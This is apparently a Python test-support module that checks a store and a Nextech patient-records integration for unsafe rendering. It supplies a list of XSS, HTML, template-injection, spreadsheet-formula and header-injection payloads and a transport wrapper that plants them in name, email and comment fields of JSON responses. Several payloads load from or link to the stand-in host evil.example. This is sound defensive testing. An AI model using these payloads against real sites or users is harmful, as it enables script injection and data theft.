"""Texts that try to become markup, script or style; and the wires that carry them from the store and from Nextech.

Every payload that succeeds shows itself: it opens a dialog, asks a foreign host, sets `window.evil`, or leaves an element
that carries `data-evil`.
"""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from itertools import count
from typing import Any

import httpx

from tests.worlds import Wrap

_HOST = "//evil.example/x"
_DO = "alert(1)"

PAYLOADS = (
    f"<script data-evil>{_DO}</script>",
    f"<script src={_HOST} data-evil></script>",
    f"</title><script data-evil>{_DO}</script>",
    f"</textarea><script data-evil>{_DO}</script>",
    f"</style><script data-evil>{_DO}</script>",
    f"--><script data-evil>{_DO}</script>",
    f"]]><script data-evil>{_DO}</script>",
    f"<ScRiPt data-evil>{_DO}</sCrIpT>",
    f"<<script data-evil>{_DO}//<</script>",
    f"<img data-evil src=x onerror={_DO}>",
    f'"><img data-evil src=x onerror={_DO}>',
    f"'><img data-evil src=x onerror={_DO}>",
    f"<img data-evil src={_HOST}>",
    f"<img data-evil src=x:x onerror=window.evil=1;{_DO}>",
    f"<svg data-evil onload={_DO}>",
    f"<svg data-evil><script>{_DO}</script></svg>",
    f"<svg data-evil><animate onbegin={_DO} attributeName=x dur=1s></svg>",
    f"<math data-evil><mtext><img src=x onerror={_DO}></mtext></math>",
    f"<iframe data-evil src=javascript:{_DO}></iframe>",
    f"<iframe data-evil srcdoc='<script>{_DO}</script>'></iframe>",
    f"<iframe data-evil src={_HOST}></iframe>",
    f"<object data-evil data={_HOST}></object>",
    f"<embed data-evil src={_HOST}>",
    f"<link data-evil rel=stylesheet href={_HOST}>",
    f"<style data-evil>@import '{_HOST}';</style>",
    f'<div data-evil style="background:url({_HOST})">x</div>',
    f"<base data-evil href={_HOST}>",
    f"<meta data-evil http-equiv=refresh content='0;url=https:{_HOST}'>",
    f"<form data-evil action={_HOST}><input autofocus onfocus={_DO}></form>",
    f"<input data-evil autofocus onfocus={_DO}>",
    f"<select data-evil autofocus onfocus={_DO}></select>",
    f"<textarea data-evil autofocus onfocus={_DO}></textarea>",
    f"<details data-evil open ontoggle={_DO}></details>",
    f"<video data-evil><source onerror={_DO}></video>",
    f"<audio data-evil src=x onerror={_DO}></audio>",
    f"<body data-evil onload={_DO}>",
    f"<marquee data-evil onstart={_DO}>x</marquee>",
    f"<a data-evil href=javascript:{_DO}>x</a>",
    f"<a data-evil href=https:{_HOST} ping={_HOST}>x</a>",
    f"<button data-evil formaction=javascript:{_DO} autofocus onfocus={_DO}>x</button>",
    f"<template data-evil><script>{_DO}</script></template>",
    f"<x data-evil onmouseover={_DO} style=position:fixed;inset:0>x</x>",
    f'" onmouseover="{_DO}" data-evil="',
    f"' onfocus='{_DO}' autofocus data-evil='",
    f"` onload=`{_DO}` data-evil=`",
    f'" autofocus onfocus={_DO} data-evil x="',
    f"javascript:{_DO}",
    f"data:text/html,<script>{_DO}</script>",
    "{{ cycler.__init__.__globals__ }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}x{% endfor %}",
    "${7*7} #{7*7} {{7*7}} <%= 7*7 %>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img data-evil src=x onerror=alert(1)&#62;",
    "\u202e<script data-evil>alert(1)</script>\u202c",
    "\u0000<script data-evil>alert(1)</script>".replace("\u0000", "\ufffd"),
    '=HYPERLINK("https://evil.example/x","click")',
    "\r\nSet-Cookie: evil=1\r\n\r\n<script data-evil>alert(1)</script>",
    "%3Cscript%20data-evil%3Ealert(1)%3C/script%3E",
    "\uff1cscript data-evil\uff1ealert(1)\uff1c/script\uff1e",
    '<noscript><p title="</noscript><img data-evil src=x onerror=alert(1)>">',
)

_TEXTS = frozenset(
    {
        *("firstname", "lastname", "middlename", "prefix", "suffix", "email", "telephone", "street", "city", "company", "name"),
        *("sku", "customer_firstname", "customer_lastname", "customer_email", "customer_suffix", "comment", "given", "family"),
        *("text", "display", "official_name"),
    }
)
"""What the store and Nextech let people write, by the names of the fields."""


class Hostility:
    """Put payloads into what the two systems answer, another one each time."""

    def __init__(self) -> None:
        self._next = count()

    def payload(self) -> str:
        return PAYLOADS[next(self._next) % len(PAYLOADS)]

    def store(self, inner: httpx.BaseTransport) -> httpx.BaseTransport:
        """Wrap the store's wire."""
        return _Rewriting(inner, lambda answer: answer.request.url.path.rstrip("/").endswith("orders"), self._poison)

    def nextech(self, inner: httpx.BaseTransport) -> httpx.BaseTransport:
        """Wrap Nextech's wire."""
        return _Rewriting(inner, lambda answer: "/Patient" in answer.request.url.path, self._poison)

    @property
    def wraps(self) -> tuple[Wrap, Wrap]:
        return self.store, self.nextech

    def _poison(self, value: Any, key: str = "") -> Any:
        if isinstance(value, dict):
            is_contact = value.get("system") in ("email", "phone")
            return {
                name: self._poison(inner, "text" if is_contact and name == "value" else name) for name, inner in value.items()
            }
        if isinstance(value, list):
            return [self._poison(inner, key) for inner in value]
        return self.payload() if isinstance(value, str) and key in _TEXTS else value


class _Rewriting(httpx.BaseTransport):
    def __init__(
        self, inner: httpx.BaseTransport, fits: Callable[[httpx.Response], bool], change: Callable[[Any], Any]
    ) -> None:
        self._inner, self._fits, self._change = inner, fits, change

    def handle_request(self, request: httpx.Request) -> httpx.Response:
        answer = self._inner.handle_request(request)
        answer.request = request
        if answer.status_code != 200 or not self._fits(answer):
            return answer
        answer.read()
        changed = json.dumps(self._change(json.loads(answer.content))).encode()
        headers = {name: value for name, value in answer.headers.items() if name.lower() != "content-length"}
        return httpx.Response(200, headers=headers, content=changed)


def rotating(start: int) -> Iterator[str]:
    """Return payloads without end, beginning somewhere."""
    return (PAYLOADS[number % len(PAYLOADS)] for number in count(start))
